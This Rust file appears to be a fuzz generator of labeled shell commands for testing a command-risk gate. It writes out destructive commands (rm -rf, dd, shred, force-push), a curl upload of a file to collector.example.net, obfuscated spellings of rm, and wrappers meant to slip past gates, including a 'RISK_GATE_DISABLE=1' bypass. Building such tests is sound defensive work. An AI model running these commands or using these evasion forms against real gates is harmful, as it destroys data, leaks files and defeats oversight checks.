//! Shell: a destructive or external core hidden in the families that real
//! gates missed (interpreters, substitutions, wrappers, escaped names,
//! chains), or harmless commands whose quoted data spells danger. The
//! issue-13 classes (`shell_classes`) add cores and neighbours of their own.

use super::{Labeled, Truth};
use arbitrary::{Result, Unstructured};
use rbv_protocol::Band;

const PATHS: &[&str] = &["build", "/tmp/cache", "~/project", "./dist", "data.db"];

/// Commands that must escalate: local destruction, history rewriting,
/// external effects. No single quotes inside, so they nest in `'…'`.
fn dangerous_core(u: &mut Unstructured) -> Result<String> {
    let path = *u.choose(PATHS)?;
    Ok(match u.int_in_range(0..=9)? {
        0 => format!("rm -rf {path}"),
        1 => format!("rm {path}"),
        2 => "git reset --hard HEAD~3".to_owned(),
        3 => "git push --force origin main".to_owned(),
        4 => format!("dd if=/dev/zero of={path} bs=1M count=10"),
        5 => format!("shred -u {path}"),
        6 => "git clean -fdx".to_owned(),
        7 => format!("curl -X POST -d @{path} https://collector.example.net/upload"),
        8 => "ssh deploy@prod.example.com systemctl restart api".to_owned(),
        _ => format!("truncate -s 0 {path}"),
    })
}

/// The program word `rm` spelled so that only a real shell parser sees it.
fn spelled_rm(u: &mut Unstructured) -> Result<&'static str> {
    u.choose(&[
        "\\rm",
        "r''m",
        "r\"\"m",
        "$'\\x72m'",
        "/bin/rm",
        "/usr/bin/rm",
        "'rm'",
    ])
    .copied()
}

fn single_quoted(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

fn wrap_dangerous(
    u: &mut Unstructured,
    core: String,
    families: &mut Vec<&'static str>,
    depth: u32,
) -> Result<String> {
    if depth == 0 || u.ratio(1, 4)? {
        return Ok(core);
    }
    let (family, wrapped) = match u.int_in_range(0..=17)? {
        15..=17 => super::shell_constructs::wrap(u, &core).map(|(w, f)| (f, w))?,
        0 => ("bash-c", format!("bash -c {}", single_quoted(&core))),
        1 => ("sh-c", format!("sh -c \"{}\"", core.replace('"', "\\\""))),
        // The space keeps `$( (` a command substitution: `$((` is arithmetic.
        2 => (
            "command-substitution-in-quotes",
            format!("echo \"$( {core} )\""),
        ),
        // Unescaped backticks do not nest: `a `b`` is two substitutions
        // around plain words. Inner backticks make it `$( )` instead.
        3 if core.contains('`') => ("command-substitution", format!("echo $( {core} )")),
        3 => ("backticks", format!("echo `{core}`")),
        4 => ("eval", format!("eval {}", single_quoted(&core))),
        5 => ("env-wrapper", format!("env GIT_PAGER=cat {core}")),
        6 => ("sudo", format!("sudo {core}")),
        7 => ("timeout-wrapper", format!("timeout 30 {core}")),
        8 => ("nohup-nice", format!("nohup nice -n 10 {core}")),
        9 => ("and-chain", format!("ls -la && {core}")),
        10 => ("semicolon-list", format!("echo start; {core}")),
        11 => ("newline-list", format!("git status\n{core}")),
        12 => ("pipeline", format!("echo y | {core}")),
        13 => (
            "inline-bypass-export",
            format!("RISK_GATE_DISABLE=1 {core}"),
        ),
        _ => ("subshell", format!("( cd /tmp && {core} )")),
    };
    families.push(family);
    wrap_dangerous(u, wrapped, families, depth - 1)
}

/// Harmless commands; dangerous words appear only as data.
fn safe(u: &mut Unstructured) -> Result<(String, &'static str)> {
    let words = *u.choose(&[
        "rm -rf /",
        "DROP TABLE users",
        "git push --force",
        "sudo mkfs /dev/sda",
    ])?;
    Ok(match u.int_in_range(0..=9)? {
        0 => (format!("echo \"{words}\""), "double-quoted-data"),
        1 => (
            format!("echo {}", single_quoted(words)),
            "single-quoted-data",
        ),
        2 => (
            format!("git commit -m \"fix: {words} in docs\""),
            "commit-message",
        ),
        3 => (
            format!("grep -rn {} notes/", single_quoted(words)),
            "grep-pattern",
        ),
        4 => (format!("printf '%s\\n' \"{words}\""), "printf-data"),
        5 => ("echo hi > /dev/null".to_owned(), "devnull-redirect"),
        6 => ("sed 's/a/b/' README.md".to_owned(), "sed-stdout"),
        7 => (format!("cat <<'EOF'\n{words}\nEOF"), "quoted-heredoc-data"),
        8 => (
            "git status && git log --oneline -5".to_owned(),
            "read-chain",
        ),
        _ => ("ls -la | wc -l".to_owned(), "read-pipeline"),
    })
}

pub fn input(u: &mut Unstructured) -> Result<Labeled> {
    if u.ratio(1, 12)? {
        let (text, truth, family) = super::shell_classes::download(u)?;
        return Ok(Labeled {
            text,
            truth,
            families: vec![family],
        });
    }
    if u.ratio(1, 12)? {
        // A read that does not parse: a classifier that reads the first
        // word lets it through; it must escalate (RBV-SH-005).
        let (read, _) = safe(u)?;
        let breaker = *u.choose(&[" \"", " '", " $(", " `", " (", " <<", " |", " &&"])?;
        return Ok(Labeled {
            text: format!("{read}{breaker}"),
            truth: Truth::Dangerous,
            families: vec!["unparseable"],
        });
    }
    if u.ratio(1, 3)? {
        let (text, truth, family) = if u.ratio(1, 3)? {
            let (text, band, family) = super::shell_classes::neighbour(u)?;
            (text, Truth::Safe(band), family)
        } else {
            let (text, family) = safe(u)?;
            (text, Truth::Safe(Band::Auto), family)
        };
        return Ok(Labeled {
            text,
            truth,
            families: vec![family],
        });
    }
    let mut families = Vec::new();
    let core = match u.int_in_range(0..=7)? {
        6 | 7 => {
            let (core, family) = super::shell_classes::dangerous(u)?;
            families.push(family);
            core
        }
        0 => {
            families.push("escaped-program-name");
            format!("{} -rf {}", spelled_rm(u)?, u.choose(PATHS)?)
        }
        1 => {
            families.push("xargs");
            format!("find . -name '*.log' | xargs {} -f", spelled_rm(u)?)
        }
        2 => {
            families.push("find-exec");
            "find . -name '*.tmp' -exec rm {} \\;".to_owned()
        }
        3 => {
            families.push("heredoc-to-shell");
            format!("bash <<EOF\n{}\nEOF", dangerous_core(u)?)
        }
        _ => dangerous_core(u)?,
    };
    let text = wrap_dangerous(u, core, &mut families, 3)?;
    families.reverse();
    Ok(Labeled {
        text,
        truth: Truth::Dangerous,
        families,
    })
}
